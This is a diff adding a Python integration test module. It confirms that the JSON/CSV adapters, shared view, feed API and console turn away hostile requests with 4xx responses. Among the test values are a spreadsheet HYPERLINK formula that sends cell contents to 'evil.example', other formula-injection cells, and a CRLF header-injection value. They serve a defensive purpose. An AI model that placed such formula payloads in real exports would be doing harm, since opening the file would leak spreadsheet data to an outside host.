@@ -1,0 +1,297 @@
+"""Hostile requests are bounded before they cost anything and answered with a 4xx that names the rule.
+
+Every service on the real stack: the two adapters (JSON and CSV), the shared view, the feed API and the
+console. Limits are made small here (a 2 MiB body, a 4 MiB file, 5 rows a file) so the tests stay fast;
+the defaults are in ``infra.config`` and the README's "Limits".
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import uuid
+from collections.abc import AsyncIterator, MutableMapping
+from dataclasses import dataclass
+from datetime import UTC, datetime
+from typing import Any
+
+import asyncpg
+import httpx
+import pytest_asyncio
+from fastapi import FastAPI
+from fastapi.testclient import TestClient
+
+from consumers.catchup import run_until_caught_up
+from consumers.feed.api import create_feed_app
+from consumers.feed.builder import build_month
+from consumers.feed.delivery import to_csv
+from consumers.feed.projection import FeedProjection
+from consumers.shared_view.api import build_app as shared_view_app
+from domain.calendar import YearMonth
+from infra.auth import OrgKind, Role, add_client
+from infra.codecs.csv_write import write_csv
+from infra.config import Settings
+from infra.topics import ensure_topics
+from producers.adapters.app import employment_app
+from producers.adapters.serve import running
+from producers.adapters.sites import add_sites
+from producers.publish import publish_submissions
+from tests import factories
+from tests.browser.console_server import RunningConsole
+from tests.integration.test_adapters_http import free_port
+
+MiB = 1024 * 1024
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@dataclass
+class Limited:
+    url: str
+    app: FastAPI
+    settings: Settings
+    office: str  # a publishing token of office 1301
+    reader: str  # a reading token of authority 131041
+
+
+@pytest_asyncio.fixture(scope="module", loop_scope="session")
+async def limited(pool: asyncpg.Pool, settings: Settings) -> AsyncIterator[Limited]:
+    own = settings.model_copy(
+        update={
+            "topic_namespace": f"l{uuid.uuid4().hex[:10]}",
+            "max_body_bytes": 2 * MiB,
+            "max_file_bytes": 4 * MiB,
+            "max_file_rows": 5,
+        }
+    )
+    await ensure_topics(own)
+    async with pool.acquire() as conn:
+        await add_sites(conn, [(factories.SITE, factories.OFFICE, "新宿")])
+        _, office = await add_client(
+            conn, name="hostile office", org_kind=OrgKind.OFFICE, org_code=factories.OFFICE,
+            roles=frozenset({Role.PUBLISH}),
+        )  # fmt: skip
+        _, reader = await add_client(
+            conn, name="hostile reader", org_kind=OrgKind.AUTHORITY, org_code=factories.AUTHORITY,
+            roles=frozenset({Role.READ}),
+        )  # fmt: skip
+    app = employment_app(own)
+    async with running(app, "127.0.0.1", free_port()) as url:
+        yield Limited(url, app, own, office, reader)
+
+
+def _client(limited: Limited, token: str | None = None) -> httpx.AsyncClient:
+    headers = {"Authorization": f"Bearer {token}"} if token else {}
+    return httpx.AsyncClient(base_url=limited.url, headers=headers, timeout=60)
+
+
+# --- bounded answers ---------------------------------------------------------------------------------
+
+
+async def test_an_oversized_value_is_cut_short_in_the_422(limited: Limited) -> None:
+    huge = "f" * 1_000_000
+    async with _client(limited, limited.office) as http:
+        response = await http.post("/v1/registration", json=factories.registration(huge).data)
+        assert response.status_code == 422
+        assert len(response.content) < 5_000, len(response.content)
+        error = next(e for e in response.json()["errors"] if e["field"] == "person_key")
+        assert len(error["value"]) < 200 and "1000000 characters" in error["value"]
+        # 10,000 unknown fields: the first 100 errors and how many there were
+        body = factories.registration(factories.person_key()).data | {f"x{i}": i for i in range(10_000)}
+        response = await http.post("/v1/registration", json=body)
+        assert response.status_code == 422 and len(response.content) < 50_000
+        assert response.json()["errors_total"] == 10_000 and len(response.json()["errors"]) == 100
+
+
+async def test_a_body_past_the_limit_is_413_naming_the_limit(limited: Limited) -> None:
+    async with _client(limited, limited.office) as http:
+        response = await http.post(
+            "/v1/registration/batch",
+            content=b"[" + b" " * (3 * MiB) + b"]",
+            headers={"Content-Type": "application/json"},
+        )
+        assert response.status_code == 413
+        assert "2097152 bytes" in response.json()["error"]
+
+        async def stream() -> AsyncIterator[bytes]:  # no Content-Length: counted as it streams in
+            for _ in range(3 * 16):
+                yield b" " * 65536
+
+        response = await http.post(
+            "/v1/registration/batch", content=stream(), headers={"Content-Type": "application/json"}
+        )
+        assert response.status_code == 413
+        files = {"file": ("big.csv", b"x" * (5 * MiB), "text/csv")}
+        response = await http.post("/v1/registration/csv", files=files)
+        assert response.status_code == 413 and "4194304 bytes" in response.json()["error"]
+
+
+async def test_authentication_comes_before_the_body(limited: Limited) -> None:
+    """An unauthenticated upload is refused without a byte of its body read."""
+    for path, content_type in (
+        ("/v1/registration/csv", b"multipart/form-data; boundary=x"),
+        ("/v1/registration", b"application/json"),
+    ):
+        read, sent = await _call(limited.app, path, content_type)
+        assert sent[0]["status"] == 401, (path, sent[0])
+        assert not read, f"{path}: the body was read before the credential was checked"
+
+
+async def _call(
+    app: FastAPI, path: str, content_type: bytes
+) -> tuple[list[int], list[MutableMapping[str, Any]]]:
+    """POST ``path`` straight into the ASGI app with a body that counts how often it was read."""
+    read: list[int] = []
+    sent: list[MutableMapping[str, Any]] = []
+
+    async def receive() -> MutableMapping[str, Any]:
+        read.append(1)
+        return {"type": "http.request", "body": b"--x\r\n" * 1000, "more_body": True}
+
+    async def send(message: MutableMapping[str, Any]) -> None:
+        sent.append(message)
+
+    scope = {
+        "type": "http", "asgi": {"version": "3.0"}, "http_version": "1.1", "method": "POST",
+        "scheme": "http", "path": path, "raw_path": path.encode(), "query_string": b"", "root_path": "",
+        "headers": [(b"content-type", content_type), (b"content-length", b"1000000")],
+        "client": ("127.0.0.1", 1), "server": ("127.0.0.1", 80), "app": app, "state": {},
+    }  # fmt: skip
+    await app(scope, receive, send)
+    return read, sent
+
+
+async def test_csv_header_line_of_a_megabyte_and_ten_thousand_columns(limited: Limited) -> None:
+    async with _client(limited, limited.office) as http:
+        one_cell = b"a" * MiB + b"\r\n1,2\r\n"
+        response = await http.post("/v1/registration/csv", files={"file": ("h.csv", one_cell, "text/csv")})
+        assert response.status_code == 422, response.text[:300]
+        assert "header (line 1)" in response.json()["errors"][0]["rule"]
+        many = ",".join(f"col{i}" for i in range(10_000)).encode() + b"\r\n"
+        response = await http.post("/v1/registration/csv", files={"file": ("c.csv", many, "text/csv")})
+        assert response.status_code == 422 and len(response.content) < 5_000
+        assert "at most 64" in response.json()["errors"][0]["rule"]
+        unknown = ",".join(f"col{i}" for i in range(60)).encode() + b"\r\n"
+        response = await http.post("/v1/registration/csv", files={"file": ("u.csv", unknown, "text/csv")})
+        assert response.status_code == 422 and "and 55 more" in response.json()["errors"][0]["rule"]
+
+
+async def test_a_file_past_the_row_limit_stops_there_and_says_so(limited: Limited) -> None:
+    rows = [factories.registration(factories.person_key()).data for _ in range(7)]
+    content = write_csv("registration", rows)
+    async with _client(limited, limited.office) as http:
+        response = await http.post("/v1/registration/csv", files={"file": ("r.csv", content, "text/csv")})
+    assert response.status_code == 202, response.text
+    summary = response.json()
+    assert summary["accepted"] == 5
+    assert "at most 5 rows" in summary["file_error"]
+
+
+# --- NUL and control characters: 4xx, never 5xx, never accepted ----------------------------------------
+
+
+async def test_nul_and_int32_overflow_are_refused_at_the_adapter(limited: Limited) -> None:
+    pk = factories.person_key()
+    cases: list[tuple[str, dict[str, Any], str]] = [
+        ("/v1/consent", factories.consent(pk, form_version="form\x00").data, "form_version"),
+        ("/v1/consent", factories.consent(pk, version=2**31).data, "version"),
+        (
+            "/v1/registration",
+            factories.registration(pk, personal={"name": "花子\x00", "birth_date": "1988-06-01"}).data,
+            "personal.name",
+        ),
+        (
+            "/v1/placement",
+            factories.placement(pk, personal={"employer_name": "株式会社\x07"}).data,
+            "personal.employer_name",
+        ),
+        ("/v1/placement", factories.placement(pk, attributes=["youth", "youth"]).data, "attributes"),
+    ]
+    async with _client(limited, limited.office) as http:
+        for path, body, field in cases:
+            response = await http.post(path, json=body)
+            assert response.status_code == 422, (path, field, response.status_code)
+            assert field in {e["field"] for e in response.json()["errors"]}, response.text
+
+
+async def test_unserved_methods_are_405(limited: Limited) -> None:
+    async with _client(limited, limited.office) as http:
+        for method in ("GET", "PUT", "DELETE", "PATCH"):
+            response = await http.request(method, "/v1/registration")
+            assert response.status_code == 405, method
+
+
+async def test_nul_in_search_bodies_and_query_numbers_is_a_4xx(limited: Limited, pool: asyncpg.Pool) -> None:
+    auth = {"Authorization": f"Bearer {limited.reader}"}
+    with TestClient(shared_view_app(limited.settings), raise_server_exceptions=False) as client:
+        for body in (
+            {"purpose": "share_registration", "name": "花\x00子"},
+            {"purpose": "share_registration", "case_number": "\x00"},
+        ):
+            response = client.post("/persons/search", json=body, headers=auth)
+            assert response.status_code == 422, response.text
+        response = client.get(
+            "/persons",
+            params={"purpose": "disclose_placement", "limit": 45, "offset": "382970252378261422080"},
+            headers=auth,
+        )
+        assert response.status_code == 422
+        response = client.post("/persons/search", content=b"{" + b" " * (3 * MiB), headers=auth)
+        assert response.status_code == 413
+
+
+async def test_nul_in_feed_paths_is_a_4xx(limited: Limited) -> None:
+    auth = {"Authorization": f"Bearer {limited.reader}"}
+    with TestClient(create_feed_app(limited.settings), raise_server_exceptions=False) as client:
+        for path in ("/feeds/131041%00/2025-05", "/feeds/131041/2025-05%00", "/feeds/%00%00/x"):
+            response = client.get(path, headers=auth)
+            assert 400 <= response.status_code < 500, (path, response.status_code)
+        response = client.get("/feeds/131041/2025-05", params={"revision": 2**40}, headers=auth)
+        assert response.status_code == 422
+
+
+async def test_console_login_with_control_characters_is_refused(console: RunningConsole) -> None:
+    async with httpx.AsyncClient(base_url=console.url) as http:
+        for token, next_ in (("ith_ab\x00.cd", "/"), ("ith_\x00\x00", "/\x00"), ("x" * 100_000, "/\r\nX: y")):
+            response = await http.post("/login", data={"token": token, "next": next_})
+            assert response.status_code == 401, (token[:10], response.status_code)
+
+
+# --- formula cells in every CSV export -----------------------------------------------------------------
+
+
+def _cells(content: bytes, encoding: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(content.decode(encoding))) for cell in row]
+
+
+async def test_formula_cells_are_escaped_in_every_csv_export(pool: asyncpg.Pool, limited: Limited) -> None:
+    settings = limited.settings
+    pk = factories.person_key()
+    subs = [
+        factories.registration(
+            pk, registered_on="2019-07-01", personal={"name": "@SUM(1+1)*cmd", "birth_date": "1988-06-01"}
+        ),
+        factories.consent(pk, valid_from="2019-07-01"),
+        factories.placement(pk, placed_on="2019-07-15", personal={"employer_name": FORMULA}),
+    ]
+    await publish_submissions(settings, pool, subs, origin="test-hostile")
+    await run_until_caught_up(FeedProjection(settings), settings, pool)
+    month = YearMonth(2019, 7)
+    await build_month(
+        pool, settings, month, now=datetime(2019, 8, 7, tzinfo=UTC), authorities=[factories.AUTHORITY]
+    )
+    auth = {"Authorization": f"Bearer {limited.reader}"}
+    with TestClient(create_feed_app(settings)) as client:
+        for encoding in ("utf-8", "cp932"):
+            response = client.get(
+                f"/feeds/{factories.AUTHORITY}/2019-07",
+                params={"format": "csv", "part": "individuals", "encoding": encoding},
+                headers=auth,
+            )
+            assert response.status_code == 200, response.text
+            cells = _cells(response.content, encoding)
+            assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd" in cells, encoding
+            assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], encoding
+    # The same function writes `hub feed export` files: any cell, any encoding.
+    for encoding in ("utf-8", "cp932"):
+        data, _ = to_csv([["-1", "+2.5", "-x", "\tx", "\rx", "=1+1", "@a", "+81-3"]], encoding)  # type: ignore[arg-type]
+        assert _cells(data, encoding) == ["-1", "+2.5", "'-x", "'\tx", "'\rx", "'=1+1", "'@a", "'+81-3"]
